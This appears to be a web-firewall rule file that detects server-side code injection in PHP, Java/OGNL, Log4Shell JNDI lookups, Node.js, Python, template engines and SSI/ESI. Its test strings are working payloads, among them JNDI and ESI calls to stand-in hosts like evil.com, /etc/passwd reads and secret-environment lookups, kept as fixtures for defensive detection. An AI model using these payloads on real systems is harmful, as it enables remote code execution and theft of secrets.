# Server-side code injection: PHP, Java, Node.js, template engines, JNDI, SSI (ids 300005000-300005999).

id: 300005001
name: PHP code injection: opening tag
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, url, param-name
unless: binary
literal: <?
regex: <\?(?:php\b|=|\s)
test: <?php system($_GET['c']); ?>
pass: what <?

id: 300005015
name: PHP code injection: closing tag after a statement
# `?>` ends a PHP block: a value that ends a statement or a call (`;`, `)`) and then the block
# (`");?>`, `1;?>`) is breaking out of code the application evaluates. A question mark before
# `>` in prose or markup (`<a title="why?">`) follows a word, and an XML declaration's
# (`<?xml version='1.0'?>`) a quote.
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, param-name
unless: binary, url
literal: ?>
regex: [;)]\s*\?>
test: ");?> <h1>
test: 1;?>
test: x');?>
test: phpinfo() ?>
pass: <a title="why?">link</a>
pass: <?xml version="1.0"?><root/>
pass: <?xml version='1.0' encoding='UTF-8'?><?xml-stylesheet href='a.xsl'?>
pass: Really?> yes

id: 300005002
name: PHP code injection: dangerous function call
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, url, param-name
unless: binary
literal: (
regex: \b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|preg_replace|file_get_contents|file_put_contents|fopen|fwrite|readfile|highlight_file|show_source|phpinfo|phpversion|php_uname|getenv|base64_decode|gzinflate|gzuncompress|str_rot13|move_uploaded_file|unserialize|include|include_once|require|require_once|array_map|usort|ob_start|mb_ereg_replace|posix_\w+|symlink|chmod|putenv|ini_set|dl|mail)\s*\(\s*(?:['"`$(\[]|\w+\s*\(|\)|\d|\w+\s*,\s*['"$])
test: system('id')
test: eval(base64_decode($_POST['x']))
test: phpinfo()
pass: the system (as designed) works

id: 300005003
name: PHP code injection: superglobals and backtick execution
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, url, param-name
unless: binary
literal: $_
literal: ${
literal: `
literal: $globals
regex: \$_(?:get|post|request|cookie|server|files|env|session)\s*\[|\$globals\s*\[|\$\{\s*@?(?:system|eval|phpinfo|print|exec)\b|\$\{\s*\$\{|`\s*\$_
test: $_GET['cmd']
test: $GLOBALS['x']
test: ${${system('id')}}
pass: $_ is a variable
pass: $GLOBALS is PHP's array of globals

id: 300005004
name: PHP object injection: serialized object
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
# Also in the URL path: REST routes take the object as a path segment.
targets: @values, header, url, param-name
unless: binary
literal: o:
literal: c:
literal: a:
regex: \b[oc]:\+?\d+:"[\w\\]+":\d+:\{|\ba:\d+:\{(?:[is]:\d+(?::"[^"]*")?;){1,}\s*[oc]:\d+:"
test: O:8:"stdClass":1:{s:1:"a";s:1:"b";}
pass: O:8 in the evening
pass: /maps/route/O:12:30

id: 300005005
name: Java code injection: runtime, reflection and process APIs
type: Server Side Code Injection
accuracy: high
risk: high
systems: Java Servlets/JSP
targets: @values, header, url, param-name
unless: binary
literal: java.
literal: javax.
literal: runtime
literal: processbuilder
literal: getclass
literal: forname
literal: classloader
literal: getmethod
literal: newinstance
literal: scriptengine
literal: invoke(
literal: .exec(
literal: getdeclared
literal: execute
regex: ['"]\s*\]?\s*\.\s*execute\s*\(\s*\)|\bjava\.(?:lang\.(?:runtime|processbuilder|system|class|reflect|thread|classloader)|io\.(?:file|bufferedreader|inputstreamreader)|net\.(?:url|socket)|util\.scanner|beans\.)|\bjavax\.(?:script|naming|management)\.|\bruntime\s*(?:\.\s*getruntime\s*\(|\))|\bnew\s+processbuilder\b|\bprocessbuilder\s*\(|\.getclass\s*\(\s*\)\s*\.|\bclass\s*\.\s*forname\s*\(|\bforname\s*\(\s*['"]|\bclassloader\b[\s\S]{0,40}(?:\.|\[)|\.getmethod\s*\(|\.newinstance\s*\(|\bscriptenginemanager\b|\.invoke\s*\([\s\S]{0,40}(?:null|exec|runtime)|\.exec\s*\(\s*['"\[]|\.getdeclared(?:method|field|constructor)s?\s*\(
test: java.lang.Runtime.getRuntime().exec("id")
test: new ProcessBuilder("sh")
test: Class.forName("java.lang.Runtime")
test: "touch /tmp/x".execute()
test: ["sh", "-c", "id"].execute().text
pass: learning java language
pass: stmt.execute() runs the query
pass: press "Run" to execute (or Ctrl+Enter)

id: 300005006
name: Java expression language / OGNL injection
type: Server Side Code Injection
accuracy: high
risk: high
systems: Java Servlets/JSP
targets: @values, header, url, param-name
unless: binary
literal: %{
literal: #_memberaccess
literal: @java
literal: #context
literal: #application
literal: #request
literal: #session
literal: #parameters
literal: ognl
literal: t(
literal: class.module
literal: class.classloader
literal: #{
literal: ${
literal: xwork
literal: @ognl
literal: dispatcher
regex: %\{\s*(?:[#@('"]|[a-z_$][\w$]*\s*[.(=\[])[\s\S]{0,200}?(?:#|@|\.class|getruntime|exec|\()|#_memberaccess|@java\.lang|@ognl\.|#(?:context|application|request|session|parameters|attr|_memberaccess)\s*[\[.]|\bognl(?:context|util)\b|\bt\s*\(\s*java\.|\bclass\.(?:module\.)?classloader\b|\bxwork\.|com\.opensymphony|#\{[\s\S]{0,100}?(?:\.class|getruntime|exec\(|\bt\s*\(|request\.|session\.|facescontext|applicationscope)|\$\{[\s\S]{0,100}?(?:\.class\b|getruntime|\.exec\(|\bt\s*\(|\.getclass|pageContext|applicationScope|sessionscope|requestscope|header\[|param\.|facescontext)
test: %{#_memberAccess['allowStaticMethodAccess']=true}
test: ${T(java.lang.Runtime).getRuntime().exec('id')}
test: class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
test: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}
test: %{ @java.lang.Runtime@getRuntime().exec('id') }
pass: 100%{ of it
# An OGNL expression starts with a variable, a static reference, a parenthesis, a quote or a name
# applied to something; anti-bot sensor blobs hold `%{` among random punctuation (`%{.{($Aw`).
pass: hikvt4?]s~uh3-8Go>6u%{.{($AwFMi4@B6RQyc5C^[f7

id: 300005007
name: Java deserialization gadget markers
type: Server Side Code Injection
accuracy: high
risk: high
systems: Java Servlets/JSP
targets: @values, header, param-name
literal: ro0ab
literal: aced0005
literal: \xac\xed
literal: commons.collections
literal: invokertransformer
literal: templatesimpl
literal: <java
literal: dynamic-proxy
literal: jdbcrowsetimpl
literal: sorted-set
literal: @type
regex: ^ro0ab|\baced0005|\xac\xed\x00\x05|\borg\.apache\.commons\.collections|\binvokertransformer\b|\btemplatesimpl\b|<java\b[^>]*>\s*<object|<dynamic-proxy>|\bjdbcrowsetimpl\b|<sorted-set>\s*<|"@type"\s*:\s*"(?:com|org|java)\.
test: \xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16\x60\xd1\x03\x00\x02F\x00\x0aloadFactorI\x00\x09thresholdxp?@\x00\x00
test: rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==
test: {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x"}
pass: aced it

id: 300005008
name: Log4Shell: JNDI lookup
type: Server Side Code Injection
accuracy: high
risk: high
targets: @all
unless: binary
literal: jndi
literal: ${
literal: %24%7b
literal: &lbrace
literal: &#123
literal: &#x7b
regex: \$\s*(?:\{|&lbrace;?|&#0*123;?|&#x0*7b;?|%7b)[\s\S]{0,100}?jndi|\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http)\b|\$\{(?:[^{}]|\$\{[^{}]*\}){0,300}?:(?:ldaps?|rmi|dns|iiop|corba|nds|nis):|%24%7b[\s\S]{0,60}jndi
test: $&lbracejndi:ldap://evil.com/webshell}
test: ${jndi:ldap://x.example/a}
test: ${${lower:j}${lower:n}di:ldap://x}
pass: ${total} euros

id: 300005009
name: Log4Shell: lookup obfuscation
type: Server Side Code Injection
accuracy: high
risk: high
targets: @all
unless: binary
literal: ${
literal: &lbrace
regex: \$\s*&lbrace;?[a-z:]{2,}|\$\{\s*(?:::-|[^}:]{0,20}:-|(?:lower|upper|env|sys|date|base64|main|java|ctx|bundle|k8s|docker|log4j|spring|web|jvmrunargs|marker|sd|map|event|hostname|script)\s*:)[^}]{0,100}\}
test: $&lbracesomethingnotcoveredbyotherrules
test: ${env:AWS_SECRET_ACCESS_KEY}
test: ${::-j}
test: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}
pass: ${name}

id: 300005010
name: Node.js code injection
type: Server Side Code Injection
accuracy: high
risk: high
systems: Node.js
targets: @values, header, url, param-name
# A value that is wholly a function's source (error loggers send them) defines and runs nothing;
# `_$$ND_FUNC$$_function(){…}()` and other called functions are not that shape.
unless: binary, function
literal: require
literal: child_process
literal: process.
literal: __proto__
literal: constructor
literal: prototype
literal: function(
literal: global.
literal: module.
literal: eval
literal: spawn
literal: execsync
literal: fs.
literal: _$$nd_func$$_
literal: vm.
literal: buffer.from
regex: \brequire\s*\(\s*['"`](?:child_process|fs|net|http|vm|os|dns|process|cluster|worker_threads|module)['"`]\s*\)|\bchild_process\b|\bprocess\s*\.\s*(?:mainmodule|binding|env|exit|kill|dlopen|cwd\s*\(|versions|argv)|__proto__|\bconstructor\s*\.\s*prototype\b|\bconstructor\s*\[|\[\s*['"`]constructor['"`]\s*\]|\bprototype\s*\.\s*\w+\s*=|\bnew\s+function\s*\(|\bfunction\s*\(\s*\)\s*\{[\s\S]{0,100}?(?:return|require|process|eval)|\bglobal\s*\.\s*(?:process|require)|\bmodule\s*\.\s*(?:require|constructor|exports\s*=)|\b(?:spawn|execsync|execfile|spawnsync|exec)\s*\(\s*['"`]|\bfs\s*\.\s*(?:readfile|writefile|readdir|unlink|rmdir|readfilesync|writefilesync|readdirsync)\w*\s*\(|_\$\$nd_func\$\$_|\bvm\s*\.\s*run\w*\s*\(|\bbuffer\s*\.\s*from\s*\([\s\S]{0,100}\)\s*\.tostring\s*\(
test: require('child_process').exec('id')
test: {"__proto__":{"isAdmin":true}}
test: process.mainModule.require('fs')
test: _$$ND_FUNC$$_function(){require('child_process').exec('id')}()
test: function(){require('child_process').exec('id')}()
pass: the function of the process
pass: function(e){var t=[y,b].sort((function(){return e===h.a?-1:1})),n=t[0],r=t[1];Array.from(document.querySelectorAll(".".concat(n)))}

id: 300005011
name: Server-side template injection: expression probes
type: Server Side Code Injection
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: {{
literal: ${
literal: #{
literal: <%
literal: {%
literal: *{
literal: @{
literal: [[
literal: {#
literal: {=
literal: ${{
literal: #set
literal: #foreach
literal: <#
literal: {php}
literal: {system
literal: {if
literal: @(
literal: {$smarty
literal: {math
literal: {fetch
literal: {eval
literal: {include_php
literal: {{#
regex: (?:\{\{|\$\{\{?|#\{|<%=?|\*\{|@\{|\[\[|\{=|\{#)\s*['"]?\d+['"]?\s*[*+\-/]\s*['"]?\d+['"]?\s*(?:\}\}?|%>|\]\])|\{\{[\s\S]{0,200}?(?:__class__|__mro__|__subclasses__|__globals__|__builtins__|__import__|__init__|__getattribute__|secret_key|lipsum|cycler|joiner|\|\s*attr|\bpopen\b|\bos\.|\bgetruntime\b|_self\.env|registerundefinedfiltercallback|\|\s*(?:filter|map|sort|reduce)\s*\(|dump\s*\()|\{\{[^}]{0,200}?(?:\bconfig\b|\bsettings\s*\.|\benviron\b|\bself\b|\brequest\b|namespace|\bexec\b|\bsystem\b|range\s*\(|\bhandler\.(?:settings|application)\b)|\{%\s*(?:import|from\s+\S+\s+import|debug|print)\b|\{%\s*(?:include|extends|import)\s+['"]?(?:/|\.\./|file:)|\{%[^%]{0,200}?(?:__\w+__|lipsum|cycler|joiner|\|\s*attr\b|\bpopen\b|\bos\.|\bconfig\b|\brequest\.|\bself\b|\bsettings\.|\bget_admin_log\b)[^%]{0,200}?%\}|<#(?:assign|include|import|list|if|local|global|setting|ftl)\b|freemarker\.template\.utility|\?new\s*\(|#set\s*\(\s*\$|#foreach\s*\(|\$class\.|\.inspect\(|\{php\}|\{system\s*\(|\{if\s+(?:system|phpinfo|exec)|\{\{\s*(?:self|_self)\b|\{\{\s*this\s*\.\s*(?:constructor|__proto__)\b|<%[\s\S]{0,200}?(?:runtime|process|system|exec|require|eval|import|response\.|request\.|out\.print|=\s*\w+\s*\()[\s\S]{0,100}%>|\$\{\s*(?:[a-z_]+\.)*(?:getclass|class|forname|getruntime|exec)\b|@\{\s*[a-z_]\w*(?:\s+\w|\s*[.(])[\s\S]{0,100}?(?:\(|\.)|@\(\s*\d+\s*[*+\-/]\s*\d+\s*\)|\{(?:math\s+equation|fetch\s+file|eval\s+var|include_php\s+file)\s*=|\{\$smarty\.(?:version|now|template|const|server|env|cookies|session|request|get|post|template_object)\b|\{\{#(?:with|each|let)\s[^}]{0,80}\bas\s*\|[^|}]+\|\s*\}\}
test: {{7*7}}
test: ${7*7}
test: @(6*9)
test: {$smarty.version}
test: {$smarty.template_object->smarty}
test: {{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}
test: {{#each list as |item|}}{{item}}{{/each}}
test: {{ ''.__class__.__mro__[1].__subclasses__() }}
test: {{ settings.SECRET_KEY }}
test: <#assign ex="freemarker.template.utility.Execute"?new()>
test: {% import os %}{{ os.popen('id').read() }}
test: #set($x = $class.inspect("java.lang.Runtime"))
test: @{ var p = System.Diagnostics.Process.Start("cmd.exe"); }
test: @{System.IO.File.ReadAllText("/etc/passwd")}
test: {math equation="7*7"}
test: {fetch file="/etc/passwd"}
test: {{handler.settings}}
test: {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
test: {%print(lipsum.__globals__)%}
test: {% include '/etc/passwd' %}
test: {{this.constructor.constructor('return process')()}}
# A Razor code block holds statements: a name, then a member, a call or another word. In an
# anti-bot sensor blob `@{` is followed by random punctuation (`@{1ZlnI&BO(`).
pass: iAAovI#L%(@sLV[~?nA @{1ZlnI&BO(?:pvRN|w@~)9%Vlzm3&m
pass: {{ name }}
pass: {{ user.display_name }} joined {{ group.title }}
pass: 2 * 3 = 6
# Templates sent as data (a CMS page, an e-mail template): loops, conditions and the current
# item are the template language's ordinary syntax; only what reaches objects is a probe.
pass: {% for item in cart.items %}{{ item.qty }} x {{ item.name }}{% endfor %}
pass: <h1>{{ page.title }}</h1>{% if user %}<p>Hello {{ user.name }}</p>{% endif %}
pass: {{#each items}}<li>{{this.label}}</li>{{/each}}
pass: {% load static %}<img src="{% static 'logo.png' %}">
pass: {{ name }} sent a request to the system administrator
pass: {% include 'partials/header.html' %}

id: 300005012
name: Server-side includes and edge-side includes
type: Server-Side Includes
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: <!--
literal: <esi:
literal: #exec
literal: #include
regex: <!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod|if|elif|else|endif)\b|<esi:(?:include|inline|vars|choose|when|eval|debug|assign|function|try|attempt)\b
test: <!--#exec cmd="ls" -->
test: <esi:include src="http://evil.example/"/>
pass: <!-- a comment -->

id: 300005013
name: Python code injection
type: Server Side Code Injection
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: __import__
literal: import os
literal: import subprocess
literal: subprocess.
literal: os.system
literal: os.popen
literal: pickle
literal: exec(
literal: compile(
literal: getattr(
literal: __builtins__
literal: cos
regex: \b__import__\s*\(|\bimport\s+(?:os|subprocess|socket|pty|sys|shutil|commands)\b|\bsubprocess\s*\.\s*(?:popen|call|run|check_output|check_call|getoutput)|\bos\s*\.\s*(?:system|popen\d?|exec\w*|spawn\w*|remove|listdir|getenv|environ)\b|\bpickle\s*\.\s*loads?\s*\(|\bexec\s*\(\s*(?:['"]|compile|base64|bytes|__import__)|\bcompile\s*\([^)]*['"]exec['"]|\bgetattr\s*\([\s\S]{0,100}?(?:__|os|system|popen)|\b__builtins__\b|^cos\s*\n\s*system\b|\(S'[\s\S]{0,100}'\s*\ntR
test: __import__('os').system('id')
test: import subprocess; subprocess.call(['ls'])
pass: important system notice

id: 300005014
name: Expression injection: arithmetic evaluation probe in braces
# An attacker looking for an evaluated expression sends a product of numbers in the braces of an
# expression language and looks for the result in the response: bare (OGNL concatenated into a
# string, `'+{233*233}+'`), behind a sigil the other template rules do not list, or behind an
# escape the parser drops. Real text writes a product without braces.
type: Server Side Code Injection
accuracy: medium
risk: high
targets: @values, header, url, param-name
unless: binary
literal: {0
literal: {1
literal: {2
literal: {3
literal: {4
literal: {5
literal: {6
literal: {7
literal: {8
literal: {9
literal: {\x20
regex: \{\s*\d+\s*\*\s*\d+(?:\s*\*\s*\d+)*\s*\}
test: '+{233*233}+'
test: x=${ 1337*1337 }
test: %{99*99}
pass: {"w":640,"h":480}
pass: (-int|-dev)?(\\.com)?(:[0-9]{1,6})
pass: 2*3=6 {answer}


id: 300005707
name: Server-side template injection: Go template actions
# Go's `text/template` and `html/template` (Hugo, Helm, many Go services) evaluate `{{.}}`, a
# field path `{{.Env.SECRET}}`, a variable `{{$x := ...}}` and the built-in functions
# `printf`, `call`, `template`, `index`, ... inside double braces; `call` runs any method the
# data exposes. Other engines' placeholders are a bare name (`{{name}}`), which this leaves alone.
type: Server Side Code Injection
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: {{
regex: \{\{-?\s*(?:\.[\w.]*\s*-?\}\}|\$\w*\s*:?=|(?:printf?|println|call|template|define|block|index|slice|urlquery|js|html)\s+["(.$][^}]{0,200}\}\})
test: {{.}}
test: {{printf "%s" "x"}}
test: {{ .Env.SECRET }}
test: {{template "x" .}}
test: {{call .Method "id"}}
test: {{$x := .}}
pass:         Host: '{{rStr1}}.com'
pass: const App = () => (\n  <Dropdown\n    menu={{\n      items,\n    }}\n  >
pass: /{{picsrc}}

id: 300005708
name: JavaScript prototype pollution: constructor or prototype reached through bracket names
# Query and form parsers (`qs`, PHP-style brackets) build nested objects from parameter names:
# `a[constructor][prototype][isAdmin]=1` and `a[__proto__][x]=1` write into every object's
# prototype, as `__proto__` and `constructor.prototype` do in JSON.
type: Server Side Code Injection
accuracy: high
risk: high
systems: Node.js
targets: @values, header, param-name
unless: binary
literal: constructor
literal: prototype
regex: \[\s*['"]?(?:constructor|prototype)['"]?\s*\]\s*(?:\[|\.|=|$)|\bconstructor\s*\.\s*prototype\b
test: [constructor][prototype]
test: a[constructor][prototype][isAdmin]=1
test: x[prototype].polluted=1
test: constructor.prototype
pass: the constructor of the prototype
pass: Object.defineProperty(t.prototype,"value",{get:function(){return this._value}})

id: 300005709
name: Server-side template injection: engine globals, implicit objects and probes the other rules do not list
# Each engine exposes objects that lead to its runtime, and probes use them bare: Flask's
# `url_for`, `get_flashed_messages`, `g`, `config`, `request` and Django's `settings` or message
# signer inside `{{ }}`; a string multiplied (`{{'a'*3}}`), arithmetic in `{% print %}`, `{%= %}`
# and `{= =}`; Django's `add` filter on numbers; Twig's `constant()`; the JSP/JSF EL implicit
# objects (`${header}`, `${cookie}`, `${request.getSession()}`); FreeMarker's special variables
# (`${.data_model}`, `${.now}`); the OGNL context (`%{#context}`); Template Toolkit directives
# (`[% USE %]`); Smarty's internal classes. A template placeholder for an application's own
# field (`{{rStr1}}`, `${BSW_UUID}`) is none of these.
type: Server Side Code Injection
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: {{
literal: {%
literal: {=
literal: ${
literal: %{
literal: [%
literal: smarty_internal_
regex: \{\{\s*(?:url_for|get_flashed_messages|settings|g|messages\s*\.\s*storages|request|config|self)\s*(?:\}\}|\.|\||\[)|\{\{\s*['"]\w*['"]\s*\*\s*\d+\s*\}\}|\{%=?\s*(?:print\s+)?\d+\s*[*+/-]\s*\d+\s*%\}|\{=\s*\d+\s*[*+/-]\s*\d+\s*=\}|\$\{\s*(?:header|headerValues|cookie|initParam|paramValues|requestScope|pageScope)\s*[.\[}]|\$\{\s*request\s*\.\s*(?:get\w+|session|servletContext)|\$\{\s*\.(?:data_model|now|vars|globals|main|locale|version|template_name|current_template_name|namespace|lang|node|error)\b|%\{\s*#(?:context|_memberAccess|request|session|application|parameters|attr|this|root)\b|\[%\s*(?:USE|PERL|RAWPERL|INCLUDE|PROCESS|INSERT|EVAL|CALL|FILTER)\b[^%]{0,100}%\]|\{\{[^}]{0,100}\bconstant\s*\(|\{\{\s*\d+\s*\|\s*add\s*:|\{\s*smarty_internal_\w+::
test: {{ url_for }}
test: {{settings}}
test: {{ 'a'*3 }}
test: {% print 7*7 %}
test: {= 7*7 =}
test: {{ 7|add:7 }}
test: ${header}
test: ${request.getSession()}
test: ${.data_model}
test: %{#context}
test: [% USE x %]
test: {{ constant('PHP_VERSION') }}
test: {Smarty_Internal_Write_File::writeFile($x,"x",self::clearConfig())}
pass: r=&gdpr_consent=&us_privacy=&gpp=&gpp_sid=&account=&f=i&uid=${BSW_UUID}
pass:         Host: '{{rStr1}}.com'
pass: ${TM_SITE_DOMAIN_URLENC}

id: 300005451
name: Node.js code injection: the process, the global object or the module loader reached through brackets
# `process['mainModule']`, `global['process']`, `require['main']` reach what `process.mainModule`
# and `global.process` reach, written to pass filters on the dotted names; `__js_function` marks a
# function serialized by funcster, which its deserializer evaluates (as node-serialize does
# `_$$ND_FUNC$$_`). A quoted name right after the bracket is the property access; real
# JavaScript posted as a value (a JSONP callback) indexes its own objects.
type: Server Side Code Injection
accuracy: high
risk: high
systems: Node.js
targets: @values, header, param-name
unless: binary
literal: process[
literal: global[
literal: globalthis[
literal: mainmodule[
literal: require[
literal: __js_function
regex: \b(?:process|global|globalthis|mainmodule|require)\[\s*['"`]\s*(?:process|mainmodule|require|binding|_linkedbinding|dlopen|env|exit|kill|main|constructor|_load|cache|child_process|module)\s*['"`]|__js_function\b
test: global['process']['mainModule']
test: process['binding']('fs')
test: process["mainModule"]["require"]("child_process")
test: mainModule['require']('fs')
test: require['main']
test: {"rce":"__js_function(){}"}
pass: callback=utag.ut["writevamain"]&rnd=1688382623484

id: 300005471
name: Java code injection: class loading, bytecode definition, method-handle lookup and construction by full class name
# An expression-language or script payload that cannot name `Runtime` loads its own class: it asks
# for a class loader (`getContextClassLoader()`, `getSystemClassLoader()`), loads or defines a class
# (`.loadClass("Evil")`, `defineClass(name, bytes, 0, n)`), reaches a method through
# `MethodHandles.lookup()`, or constructs a JDK object by its full name (`new java.lang.String(`).
# Stack traces name the same methods with a source location (`ClassLoader.loadClass(ClassLoader.java:418)`)
# and never an empty argument list, which is what the call forms require.
type: Server Side Code Injection
accuracy: high
risk: high
systems: Java Servlets/JSP
targets: @values, header, url, param-name
unless: binary
literal: classloader
literal: loadclass
literal: defineclass
literal: methodhandles
literal: new java
regex: \bget(?:context|system|parent|platform)?classloader\s*\(\s*\)|\.\s*(?:loadclass|defineclass|findclass|definehiddenclass)\s*\(\s*(?:['"]|[\w$]+\s*[,)])|\bdefineclass\s*\(\s*['"]|\bmethodhandles\s*\.\s*(?:lookup|privatelookupin|publiclookup)\s*\(|\bnew\s+javax?\s*\.\s*(?:[a-z_]\w*\s*\.\s*)+[a-z_]\w*\s*[(\[]
test: Thread.currentThread().getContextClassLoader().loadClass("Evil")
test: defineClass("Evil", b, 0, b.length)
test: MethodHandles.lookup().findStatic(Runtime.class, "getRuntime", mt)
test: cl.loadClass(name)
test: new java.lang.String("x")
pass: at java.lang.ClassLoader.loadClass(ClassLoader.java:418)
pass: at sun.misc.Launcher$AppClassLoader.loadClass(Launcher.java:355)
pass: java.lang.ClassNotFoundException thrown by the system classloader
pass: the new Java 21 release

id: 300005472
name: PHP code injection: directory listing, resource-limit and variable-dump functions called
# A probe of an evaluating parameter lists directories (`scandir`, `opendir`/`readdir`, `glob`),
# lifts the limits that would stop a long payload (`set_time_limit(0)`, `ignore_user_abort`), or
# prints what it found (`print_r`, `var_dump`, `var_export`). The names are PHP's own and prose does
# not write them with an argument list; `glob` is also a shell word, so it counts only with a quoted
# pattern.
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, url, param-name
unless: binary
literal: scandir
literal: opendir
literal: readdir
literal: rewinddir
literal: set_time_limit
literal: ignore_user_abort
literal: set_include_path
literal: print_r
literal: var_dump
literal: var_export
literal: debug_zval_dump
literal: getcwd
literal: glob
regex: \b(?:scandir|opendir|readdir|rewinddir|set_time_limit|ignore_user_abort|set_include_path|print_r|var_dump|var_export|debug_zval_dump|getcwd)(?:\s|/\*.*?\*/)*\((?:\s|/\*.*?\*/)*(?:['"$]|\w+\s*\(|\d+\s*[,)]|\))|\bglob\s*\(\s*['"]
test: scandir('/')
test: SCANDIR ( "/tmp" )
test: print_r(scandir('.'))
test: while($f=readdir($d))
test: set_time_limit(0)
test: var_dump(getcwd())
test: echo implode(',',glob('*'));
pass: print_r is a PHP function that prints arrays
pass: scandir docs
pass: glob patterns like *.txt
pass: set_time_limit in php.ini
